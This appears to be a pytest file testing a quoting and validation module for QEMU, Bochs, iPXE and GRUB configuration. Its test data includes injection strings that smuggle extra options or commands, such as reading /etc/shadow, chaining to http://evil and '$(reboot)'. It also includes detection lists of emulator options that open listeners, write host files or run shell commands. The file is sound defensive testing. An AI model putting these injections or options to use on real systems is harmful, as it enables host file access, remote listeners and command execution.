"""Quoting for the languages config values land in: each injection attempt is neutralised (the real
parser reads back exactly the value) or refused.

The QEMU, Bochs and sh checks run the real programs: QEMU parses an option string and exits at
once, Bochs reads a bochsrc and quits in its debugger, sh reads a GRUB-quoted word (GRUB's script
parser quotes as sh does).  Each such check is paired with the unescaped form, which shows the
injection the quoting prevents.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pexpect
import pytest

from harness.targets import quoting
from harness.targets.quoting import Unquotable

QEMU = shutil.which("qemu-system-x86_64")
BOCHS = shutil.which("bochs-bin")


# -- QEMU ------------------------------------------------------------------------------------------

def qemu_device_error(device: str) -> str:
    """What QEMU says about ``-device <device>`` followed by a device that does not exist: if
    ``device`` parses, QEMU reaches the second one and names it."""
    r = subprocess.run([QEMU, "-M", "q35", "-accel", "tcg", "-display", "none", "-nodefaults",
                        "-no-user-config", "-S", "-device", device, "-device", "vtx-no-such-device"],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode != 0
    return r.stderr.strip()


@pytest.mark.skipif(QEMU is None, reason="qemu-system-x86_64 is not installed")
def test_a_comma_in_a_qemu_device_value_stays_in_that_value():
    injected = "0x4.0,romfile=/etc/shadow"
    device = quoting.qemu_opts("edu", {"addr": injected})
    assert device == "edu,addr=0x4.0,,romfile=/etc/shadow"
    assert qemu_device_error(device).endswith(f"Property 'edu.addr' doesn't take value '{injected}'")
    # Without the escaping QEMU takes romfile as a second property and goes on to the next device.
    assert qemu_device_error(f"edu,addr={injected}").endswith("'vtx-no-such-device' is not a valid device model name")


@pytest.mark.parametrize("name", ["q35,accel=kvm", "edu,romfile=/x", "a=b", "", "-x", "q35 ", "q35\n"])
def test_qemu_names_refuse_separators(name):
    with pytest.raises(Unquotable):
        quoting.qemu_name(name)


def test_qemu_values_double_commas_and_spell_booleans():
    assert quoting.qemu_value("a,b,,c") == "a,,b,,,,c"
    assert quoting.qemu_value(True) == "on" and quoting.qemu_value(False) == "off"
    assert quoting.qemu_value(0x40) == "64"
    with pytest.raises(Unquotable, match="control characters"):
        quoting.qemu_value("x\ny")


@pytest.mark.parametrize("cpu", ["max", "host,+vmx", "max,-la57,+pdpe1gb", "Skylake-Server,pmu=off"])
def test_qemu_cpu_model_with_features_is_accepted(cpu):
    assert quoting.qemu_cpu(cpu) == cpu


@pytest.mark.parametrize("cpu", ["host,+vmx,romfile=/etc/shadow", "max,,x", "max,", "max -device edu",
                                 "max,+vmx\n", "max,+", ",+vmx"])
def test_qemu_cpu_refuses_what_is_not_a_feature(cpu):
    with pytest.raises(Unquotable):
        quoting.qemu_cpu(cpu)


@pytest.mark.parametrize("value", ["shift=6,sleep=off", "auto", "shift=auto,align=on"])
def test_qemu_keyvals_accept_plain_option_strings(value):
    assert quoting.qemu_keyvals(value) == value


@pytest.mark.parametrize("value", ["shift=6,,sleep=off", "shift=6,file=/tmp/x y", "shift=", "=6", "shift=6\n"])
def test_qemu_keyvals_refuse_anything_needing_escapes(value):
    with pytest.raises(Unquotable):
        quoting.qemu_keyvals(value)


@pytest.mark.parametrize("pattern", ["vtd_*,file=/tmp/x", "vtd dmar", "a=b"])
def test_trace_patterns_cannot_add_trace_options(pattern):
    with pytest.raises(Unquotable):
        quoting.qemu_trace_pattern(pattern)


@pytest.mark.parametrize("args", [
    ["-gdb", "tcp::1234"], ["-s"], ["--gdb", "tcp::1"], ["-vnc", ":0"], ["-spice", "port=5900"],
    ["-monitor", "tcp:0.0.0.0:4444,server=on,wait=off"], ["-serial", "telnet::4444,server"],
    ["-serial", "mon:tcp::4444,server"], ["-qmp", "unix:/tmp/q,server"],
    ["-chardev", "socket,id=c,host=0.0.0.0,port=4444,server=on"], ["-chardev", "udp,id=u,port=4444"],
    ["-chardev", "websocket,id=w,port=4444"], ["-incoming", "tcp:0:4444"],
    ["-netdev", "user,id=n,hostfwd=tcp::2222-:22"], ["-nic", "user,hostfwd=tcp::80-:80"],
    ["-netdev", "socket,id=n,listen=:1234"], ["-netdev", "stream,id=n,addr.type=inet"],
    ["-display", "vnc=:1"], ["-display", "spice-app"], ["-readconfig", "/tmp/more.cfg"],
    ["-object", "x-vfio-user-server,id=v,socket.type=inet"], ["-chardev", '{"backend": "socket"}'],
])
def test_qemu_options_that_open_listeners_are_found(args):
    assert quoting.qemu_listeners(["-smp", "2", *args])


@pytest.mark.parametrize("args", [
    ["-smp", "2"], ["-incoming", "defer"], ["-serial", "file:/tmp/x"], ["-netdev", "user,id=n0,restrict=on"],
    ["-display", "none"], ["-chardev", "file,id=f,path=/tmp/f"], ["-object", "memory-backend-ram,id=m,size=64M"],
])
def test_qemu_options_without_listeners_pass(args):
    assert quoting.qemu_listeners(args) == []


def test_qemu_split_reads_doubled_commas_as_part_of_a_value():
    assert quoting.qemu_split("file=/x,,snapshot=on,if=none") == ["file=/x,snapshot=on", "if=none"]
    assert quoting.qemu_split(quoting.qemu_opts("d", {"a": "x,y", "b": 1})) == ["d", "a=x,y", "b=1"]


@pytest.mark.parametrize("args", [
    ["-D", "/tmp/log"], ["-pidfile", "/tmp/pid"], ["-daemonize"], ["-hda", "/tmp/disk.img"],
    ["-drive", "file=/tmp/disk.img,if=ide"], ["-drive", "file=/tmp/x,,snapshot=on,if=none"],
    ["-trace", "enable=vtd_*,file=/etc/cron.d/x"], ["-serial", "file:/tmp/out"], ["-serial", "/dev/ttyS0"],
    ["-chardev", "file,id=f,path=/tmp/f"], ["-chardev", "stdio,id=s,logfile=/tmp/l"],
    ["-object", "memory-backend-file,id=m,size=64M,mem-path=/tmp/m"], ["-audiodev", "wav,id=a,path=/tmp/a.wav"],
    ["-netdev", "tap,id=n,script=/tmp/up.sh"], ["-incoming", "exec:sh /tmp/x"], ["-plugin", "file=/tmp/p.so"],
    ["-acpitable", "file=/etc/shadow"], ["-drive", "driver=null-co,file=/tmp/x,if=none"],
])
def test_qemu_options_that_write_host_files_or_run_commands_are_found(args):
    assert quoting.qemu_host_files(["-smp", "2", *args])


@pytest.mark.parametrize("args", [
    ["-smp", "2"], ["-drive", "file=/tmp/d.img,if=none,snapshot=on"], ["-drive", "file=/x,readonly=on"],
    ["-drive", "driver=null-co,read-zeroes=on,if=none,id=d0"],
    ["-serial", "stdio"], ["-netdev", "user,id=n0,restrict=on"], ["-trace", "enable=vtd_*"],
])
def test_qemu_options_without_host_files_pass(args):
    assert quoting.qemu_host_files(args) == []


# -- Bochs -----------------------------------------------------------------------------------------

def bochs_quits(tmp_path: Path, rc_lines: list[str], env: dict[str, str] | None = None) -> str:
    """Run bochs-bin on a minimal bochsrc plus ``rc_lines``; its debugger quits at once."""
    rc = tmp_path / "bochsrc"
    rc.write_text("\n".join(["megs: 32", "romimage: file=/usr/share/bochs/BIOS-bochs-latest",
                             "vgaromimage: file=/usr/share/vgabios/vgabios.bin", "display_library: term",
                             "sound: driver=dummy", "speaker: enabled=0", *rc_lines]) + "\n")
    (tmp_path / "cmds").write_text("q\n")
    child = pexpect.spawn(BOCHS, ["-q", "-f", str(rc), "-rc", str(tmp_path / "cmds")], cwd=str(tmp_path),
                          env={**os.environ, "TERM": "vt100", **(env or {})}, timeout=60)
    try:
        child.expect(pexpect.EOF)
        return child.before.decode(errors="replace")
    finally:
        child.close(force=True)


@pytest.mark.skipif(BOCHS is None, reason="bochs-bin is not installed")
def test_bochs_reads_a_quoted_path_with_blanks_commas_and_hash_as_one_value(tmp_path):
    odd = tmp_path / "evidence dir, #1"
    odd.mkdir()
    line = f"log: {quoting.bochs_value(odd / 'bochs.log')}"
    assert line == f'log: "{odd}/bochs.log"'
    bochs_quits(tmp_path, [line])
    assert (odd / "bochs.log").stat().st_size > 0
    # Unquoted, Bochs drops the blank, splits at the comma and ends the line at '#': it logs to
    # another file, <tmp>/evidencedir.
    bochs_quits(tmp_path, [f"log: {odd / 'other.log'}"])
    assert not (odd / "other.log").exists() and (tmp_path / "evidencedir").is_file()


@pytest.mark.skipif(BOCHS is None, reason="bochs-bin is not installed")
def test_bochs_expands_environment_variables_so_dollar_is_refused(tmp_path):
    bochs_quits(tmp_path, [f"log: {tmp_path}/x$VTXQUOTINGPROBE"], env={"VTXQUOTINGPROBE": "expanded"})
    assert (tmp_path / "xexpanded").exists()
    with pytest.raises(Unquotable, match=r"Bochs expands \$NAME"):
        quoting.bochs_value(f"{tmp_path}/x$VTXQUOTINGPROBE")
    with pytest.raises(Unquotable, match=r"Bochs expands \$NAME"):
        quoting.bochs_rc_line("log: /tmp/$HOME")


@pytest.mark.parametrize("value, why", [
    ("0\nromimage: file=/etc/shadow", "control characters"),
    ('a"b', "double quote"), ("a,,b", "repeated commas"), (",a", "leading"), ("x" * 501, "at most 500"),
])
def test_bochs_values_that_cannot_be_written_are_refused(value, why):
    with pytest.raises(Unquotable, match=why):
        quoting.bochs_value(value)


def test_bochs_lines_quote_values_and_check_keys():
    assert quoting.bochs_line("cpu", {"model": "bx_generic", "x": "1, model=corei7_skylake_x"}) == \
        'cpu: model=bx_generic, x="1, model=corei7_skylake_x"'
    with pytest.raises(Unquotable):
        quoting.bochs_line("cpu", {"model, ips": 1})
    with pytest.raises(Unquotable):
        quoting.bochs_line("cpu: x", {"a": 1})


@pytest.mark.parametrize("line", ["#include /etc/bochsrc", "  #include x", "not a directive", "megs 64"])
def test_bochs_extra_lines_must_be_single_directives(line):
    with pytest.raises(Unquotable):
        quoting.bochs_rc_line(line)


@pytest.mark.parametrize("line", [
    "display_library: rfb", "display_library: vncsrv, options=\"timeout=1\"", 'display_library: "rfb"',
    "com2: enabled=1, mode=socket-server, dev=0.0.0.0:4444", "com1: enabled=1, mo de=socket-server, dev=:1",
    "gdbstub: enabled=1, port=1234", "ne2k: ioaddr=0x300, irq=9, ethmod=slirp", "e1000: mac=fe:fd:00:00:00:01",
    "pnic: enabled=1",
])
def test_bochs_lines_that_open_listeners_are_found(line):
    assert quoting.bochs_listeners([line])


@pytest.mark.parametrize("line", ["display_library: term", "com2: enabled=1, mode=file, dev=/tmp/x",
                                  "port_e9_hack: enabled=1", "# a comment"])
def test_bochs_lines_without_listeners_pass(line):
    assert quoting.bochs_listeners([line]) == []


@pytest.mark.parametrize("line", [
    "log: /etc/cron.d/x", "debugger_log: /tmp/d", "ata0-slave: type=disk, path=/tmp/disk.img",
    "floppya: 1_44=/tmp/f.img, status=inserted", "com2: enabled=1, mode=file, dev=/tmp/c",
    "com3: enabled=1, mode=raw, dev=/dev/ttyS0", "parport1: enabled=1, file=/tmp/p",
    "cmosimage: file=/tmp/cmos.img", "user_plugin: name=evil", "sound: waveoutdrv=file, waveout=/tmp/w",
])
def test_bochs_lines_that_write_host_files_are_found(line):
    assert quoting.bochs_host_files([line])


@pytest.mark.parametrize("line", ["ata0-slave: type=cdrom, path=/tmp/x.iso, status=inserted",
                                  "com2: enabled=1, mode=null", "port_e9_hack: enabled=1", "magic_break: enabled=1"])
def test_bochs_lines_without_host_files_pass(line):
    assert quoting.bochs_host_files([line]) == []


# -- iPXE ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("line", [
    "console=ttyS0\nchain http://evil/x", "a ${net0/ip}", "x || chain http://evil/", "x && shell",
    "a;reboot", "a #comment", "a\"b", "a'b", "a\\b", "a\tb\x0bc",
])
def test_ipxe_command_lines_that_could_add_commands_are_refused(line):
    with pytest.raises(Unquotable):
        quoting.ipxe_words(line)


def test_ipxe_command_line_keeps_plain_words():
    assert quoting.ipxe_words("console=ttyS0,115200  vtx.debug=1") == "console=ttyS0,115200 vtx.debug=1"
    assert quoting.ipxe_url_prefix("http://boot.lab:8080/lab1/") == "http://boot.lab:8080/lab1/"
    assert quoting.ipxe_url_prefix("") == ""
    with pytest.raises(Unquotable):
        quoting.ipxe_url_prefix("http://boot/ x")


# -- GRUB ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("word", ["plain", "it's", "a b", "$(reboot)", "'; reboot; echo '", "x\\y", "${root}"])
def test_grub_words_read_back_unchanged_by_an_sh_like_parser(word):
    quoted = quoting.grub_word(word)
    out = subprocess.run(["sh", "-c", f"printf '%s' {quoted}"], capture_output=True, text=True, timeout=30)
    assert out.stdout == word
    # Unquoted, the same word is split or expanded by that parser.
    if any(c in word for c in " '$;\\"):
        raw = subprocess.run(["sh", "-c", f"printf '%s' {word} 2>/dev/null"], capture_output=True, text=True,
                             timeout=30)
        assert raw.stdout != word


def test_grub_command_line_is_split_like_sh_and_refuses_newlines_and_open_quotes():
    assert quoting.grub_words("a 'b c' d") == "'a' 'b c' 'd'"
    for bad in ("a\nboot", "a 'b", "a\rb"):
        with pytest.raises(Unquotable):
            quoting.grub_words(bad)


@pytest.mark.skipif(shutil.which("grub-script-check") is None, reason="grub-script-check is not installed")
def test_grub_entry_with_hostile_words_is_one_valid_menu_entry(tmp_path):
    from harness.targets.baremetal.boot import GrubBoot

    boot = GrubBoot({"command_line": "x='}' \"; reboot\" '$(halt)'"}, "t", None)
    entry = boot.entry("/boot/it's } here.elf")
    script = tmp_path / "custom.cfg"
    script.write_text(entry)
    r = subprocess.run(["grub-script-check", str(script)], capture_output=True, text=True, timeout=30)
    assert r.returncode == 0, r.stderr
    assert entry.count("menuentry") == 1 and entry.splitlines()[-1] == "}"
    assert "  multiboot '/boot/it'\\''s } here.elf' 'x=}' '; reboot' '$(halt)'" in entry.splitlines()


# -- paths from the environment reach the emulators intact -------------------------------------------

def test_bochs_target_runs_in_an_evidence_directory_with_blanks_commas_and_hash(tmp_path):
    from harness.observe.runner import run_scenario
    from harness.payload.image import Scenario
    from harness.targets import open_target

    target = open_target("bochs-generic")
    if target.unavailable():
        pytest.skip(target.unavailable())
    scenario = Scenario(name="odd-path", probe=False)
    scenario.steps.mark(0x5A)
    evidence = tmp_path / "evidence dir, #1"
    run = run_scenario(target, scenario, evidence)
    assert run.step(0)[0].fields[1] == 0x5A
    assert f'log: "{evidence}/bochs.log"' in (evidence / "bochsrc").read_text().splitlines()
    assert (evidence / "bochs.log").is_file()               # Bochs opened its log at that very path


def test_qemu_target_runs_with_a_comma_in_its_runtime_directory(tmp_path, monkeypatch):
    from harness.observe.runner import run_scenario
    from harness.payload.image import Scenario
    from harness.targets import open_target

    target = open_target("qemu-tcg")
    if target.unavailable():
        pytest.skip(target.unavailable())
    import tempfile
    base = Path(tempfile.mkdtemp(prefix="h2,q"))        # short: unix socket paths are limited to 108 bytes
    try:
        monkeypatch.setenv("XDG_RUNTIME_DIR", str(base))
        scenario = Scenario(name="comma-rt", probe=False)
        scenario.steps.mark(0x33)
        run = run_scenario(target, scenario, tmp_path / "ev")
        assert run.step(0)[0].fields[1] == 0x33
        cmdline = (tmp_path / "ev" / "cmdline.sh").read_text()
        assert f"path={str(base).replace(',', ',,')}/" in cmdline
        assert list(base.iterdir()) == []                  # the run's directory went with the run
    finally:
        shutil.rmtree(base, ignore_errors=True)
